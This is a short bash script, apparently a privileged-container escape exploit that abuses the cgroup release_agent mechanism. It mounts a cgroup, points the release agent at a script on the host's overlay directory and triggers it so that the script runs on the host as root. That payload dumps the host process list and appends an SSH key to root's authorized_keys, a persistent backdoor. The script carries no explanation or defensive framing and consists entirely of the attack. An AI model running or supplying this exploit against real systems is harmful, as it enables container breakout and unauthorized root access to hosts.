#!/bin/bash
d=$(dirname "$(ls -x /s*/fs/c*/*/r* 2>/dev/null | head -n1)")
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
host=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host/cmd" > /tmp/cg/release_agent
cat > /cmd <<C
#!/bin/sh
ps aux > $host/output
mkdir -p /root/.ssh; echo "ssh-ed25519 AAAAexample x" >> /root/.ssh/authorized_keys
C
chmod a+x /cmd
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
sleep 1; cat /output
